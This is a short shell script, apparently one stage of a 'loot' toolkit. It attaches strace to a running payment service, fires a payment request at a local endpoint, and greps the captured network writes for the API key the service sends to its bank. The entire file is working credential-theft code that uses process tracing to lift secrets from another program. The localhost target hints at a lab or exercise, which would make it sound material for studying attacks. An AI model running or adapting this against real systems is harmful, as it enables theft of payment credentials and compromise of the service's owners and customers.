#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# strace -p PID: watch the service while a customer pays; its request to the bank carries the key.
. "$(dirname "$0")/loot.sh"
rm -f "$notes/strace.out"
strace -f -s 512 -e trace=network,write -o "$notes/strace.out" -p "$pid" 2> "$notes/strace.err" &
tracer=$!
tries=0
# strace says "attached" when it is; if it has ended instead, it was refused.
until grep -q attached "$notes/strace.err" || ! kill -0 "$tracer" 2> /dev/null || [ "$tries" -ge 200 ]; do
    tries=$((tries + 1))
    sleep 0.1
done
python3 -c 'import urllib.request as u; u.urlopen("http://127.0.0.1:8080/pay", timeout=60).read()'
kill -INT "$tracer" 2> /dev/null
wait "$tracer" 2> /dev/null
[ -s "$notes/strace.out" ] && secret < "$notes/strace.out" && exit 0
head -n 1 "$notes/strace.err" >&2
exit 1
